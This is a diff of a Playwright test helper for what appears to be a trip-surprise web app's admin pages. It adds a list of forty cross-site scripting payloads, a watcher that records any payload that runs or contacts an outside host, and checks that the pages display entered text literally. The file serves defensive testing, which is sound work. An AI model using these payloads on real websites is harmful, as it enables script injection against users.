@@ -1,8 +1,147 @@
 import { randomUUID } from 'node:crypto';
+import type { BrowserContext, Page } from '@playwright/test';
 import { call } from '../../support/http.ts';
 import { ok } from '../../support/http-evening.ts';
 import type { Opened } from './prepared-folders.ts';
-import { inRound, packs } from './xss.ts';
+import { expect } from './stage.ts';
+
+/** What would tell on itself if any of it were taken for more than text: it calls `xss()`, or fetches something with this in its address. */
+const STOLEN = 'rubato';
+
+/** Forty ways in, each short enough for the shortest field (50 signs). */
+export const PAYLOADS = [
+  '<script>xss()</script>',
+  '"><script>xss()</script>',
+  `<script src=//${STOLEN}.test/x></script>`,
+  `<img src=${STOLEN} onerror=xss()>`,
+  `"><img src=${STOLEN} onerror=xss()>`,
+  `'><img src=${STOLEN} onerror='xss()'>`,
+  `<img src=//${STOLEN}.test/x>`,
+  `<img srcset=//${STOLEN}.test/x>`,
+  '<svg onload=xss()>',
+  '<svg/onload=xss()>',
+  '<svg><script>xss()</script></svg>',
+  '<svg><animate onbegin=xss() attributeName=x>',
+  '<body onload=xss()>',
+  '<iframe src=javascript:xss()>',
+  '<iframe srcdoc="<script>xss()</script>">',
+  `<a href=javascript:xss()>${STOLEN}</a>`,
+  'javascript:xss()',
+  'JaVa&#9;ScRiPt:xss()',
+  'data:text/html,<script>xss()</script>',
+  '<details open ontoggle=xss()>',
+  `<video src=${STOLEN} onerror=xss()>`,
+  `<audio src=${STOLEN} onerror=xss()>`,
+  '<input autofocus onfocus=xss()>',
+  '</textarea><script>xss()</script>',
+  '</title><script>xss()</script>',
+  '</style><script>xss()</script>',
+  '--><script>xss()</script>',
+  `<math href=javascript:xss()>${STOLEN}</math>`,
+  '<object data=javascript:xss()>',
+  '<embed src=javascript:xss()>',
+  `<link rel=stylesheet href=//${STOLEN}.test/x>`,
+  `<style>@import'//${STOLEN}.test/x'</style>`,
+  `<meta http-equiv=refresh content=0;//${STOLEN}>`,
+  `<base href=//${STOLEN}.test/>`,
+  `<form action=javascript:xss()><button>${STOLEN}`,
+  '<marquee onstart=xss()>',
+  "{{constructor.constructor('xss()')()}}",
+  "${xss()}';xss();//",
+  '&lt;script&gt;xss()&lt;/script&gt;',
+  '%3Cscript%3Exss()%3C/script%3E',
+] as const;
+
+/** All payloads in as few texts of at most so many signs as they fit in. */
+function packs(max: number): string[] {
+  const found: string[] = [];
+  for (const payload of PAYLOADS) {
+    const longer = `${found.at(-1)} ${payload}`;
+    if (found.length > 0 && longer.length <= max) found[found.length - 1] = longer;
+    else found.push(payload);
+  }
+  return found;
+}
+
+/** One of those texts. */
+const oneOf = (max: number, at: number): string => packs(max)[at % packs(max).length] ?? '';
+
+/** Everything that must not happen, as it happens. Broken content security policies become console errors, and those fail a test. */
+type Watch = { happened: string[] };
+
+export async function watch(context: BrowserContext, url: string): Promise<Watch> {
+  const happened: string[] = [];
+  await context.exposeFunction('xss', () => void happened.push('a payload ran'));
+  await context.addInitScript(() =>
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
+      console.error(`content security policy: ${violatedDirective} ${blockedURI}`),
+    ),
+  );
+  context.on('dialog', (dialog) => {
+    happened.push(`a dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  context.on('request', (request) => {
+    const asked = request.url();
+    const ours = asked.startsWith(`${url}/`) || /^(blob|data|about):/.test(asked);
+    if (!ours || asked.includes(STOLEN)) happened.push(`a request: ${asked}`);
+  });
+  return { happened };
+}
+
+/** What the page shows: its text, what its fields hold, and the same inside the phones drawn on it. One space where there are several. */
+async function shown(page: Page): Promise<string> {
+  const text = await page.evaluate(() => {
+    const documents = [
+      document,
+      ...Array.from(document.querySelectorAll('iframe'), (of) => of.contentDocument),
+    ];
+    return documents
+      .flatMap((of) => [
+        of?.body?.innerText ?? '',
+        ...Array.from(
+          of?.querySelectorAll('input, textarea') ?? [],
+          (field) => (field as HTMLInputElement).value,
+        ),
+      ])
+      .join('\n');
+  });
+  return text.replaceAll(/\s+/g, ' ');
+}
+
+/** Waits until the page shows all these texts as they were typed, and finds nothing in it that only a payload could have made. */
+export async function showsAsTyped(page: Page, texts: readonly string[]): Promise<void> {
+  const missing = async () => {
+    const all = await shown(page);
+    return texts.filter((text) => !all.includes(text));
+  };
+  await expect.poll(missing, { timeout: 20_000 }).toEqual([]);
+  await nothingGrew(page);
+}
+
+/** No element with a handler of its own, none of the payloads' making: in the page or in a phone drawn on it. */
+export async function nothingGrew(page: Page): Promise<void> {
+  const grown = await page.evaluate((stolen) => {
+    const documents = [
+      document,
+      ...Array.from(document.querySelectorAll('iframe'), (of) => of.contentDocument),
+    ];
+    const elements = documents.flatMap((of) => Array.from(of?.querySelectorAll('*') ?? []));
+    const made = (element: Element) =>
+      (['SCRIPT', 'STYLE'].includes(element.nodeName.toUpperCase()) &&
+        (element.textContent.includes('xss(') || element.textContent.includes(stolen))) ||
+      (['MARQUEE', 'EMBED', 'OBJECT', 'MATH', 'BASE', 'DETAILS'].includes(element.nodeName.toUpperCase()) &&
+        !element.className) ||
+      Array.from(element.attributes).some(
+        ({ name, value }) =>
+          name.startsWith('on') ||
+          (['src', 'href', 'srcset', 'action', 'data', 'srcdoc'].includes(name) &&
+            (value.includes(stolen) || /javascript:|xss\(/i.test(value))),
+      );
+    return elements.filter(made).map((element) => element.outerHTML.slice(0, 200));
+  }, STOLEN);
+  expect(grown).toEqual([]);
+}
 
 /** A surprise whose every text tries to be more than text, and what its visits leave. */
 
@@ -11,14 +150,11 @@ const PHRASES = packs(400);
 const NAMES = packs(100);
 const [ALL = ''] = packs(2_000);
 
-/** Rounds until every payload has stood in every single text. */
-export const ROUNDS = { button: packs(50).length, contact: packs(100).length, title: packs(200).length };
-
-/** Every text of the configuration and of the questions in this round; side by side they are never the same. */
-export function hostileTexts(round: number) {
-  const title = (of: number) => inRound(200, round + of);
+/** Every text of the configuration and of the questions; side by side they are never the same. */
+export function hostileTexts() {
+  const title = (of: number) => oneOf(200, of);
   const single = {
-    video_button_text: inRound(50, round),
+    video_button_text: oneOf(50, 0),
     titolo_destinazione: title(0),
     titolo_viaggio: title(1),
     data_partenza: title(2),
@@ -27,9 +163,9 @@ export function hostileTexts(round: number) {
     titolo_viaggio_2: title(5),
     data_partenza_2: title(6),
     data_ritorno_2: title(7),
-    testo_istruzioni_biglietti: inRound(2_000, round),
-    testo_istruzioni_biglietti_2: inRound(2_000, round),
-    contatto: inRound(100, round),
+    testo_istruzioni_biglietti: oneOf(2_000, 0),
+    testo_istruzioni_biglietti_2: oneOf(2_000, 0),
+    contatto: oneOf(100, 0),
   };
   const config = {
     ...single,
@@ -41,17 +177,17 @@ export function hostileTexts(round: number) {
     frasi_finali: { entrambi_si: ALL, entrambi_no: ALL, misto: ALL },
   };
   const questions = {
-    domanda_1: inRound(500, round),
-    domanda_2: inRound(500, round + 1),
-    domanda_1_viaggio_2: inRound(500, round + 2),
-    domanda_2_viaggio_2: inRound(500, round + 3),
+    domanda_1: oneOf(500, 0),
+    domanda_2: oneOf(500, 1),
+    domanda_1_viaggio_2: oneOf(500, 2),
+    domanda_2_viaggio_2: oneOf(500, 3),
   };
   return { config, questions, single };
 }
 
 /** What a page of the administrator shows of it. */
-export function shownOn(path: string, round: number): readonly string[] {
-  const { config, questions, single } = hostileTexts(round);
+export function shownOn(path: string): readonly string[] {
+  const { config, questions, single } = hostileTexts();
   const shown: Record<string, readonly string[]> = {
     '/admin/frasi': PHRASES,
     '/admin/intermediate-phrases': PHRASES,
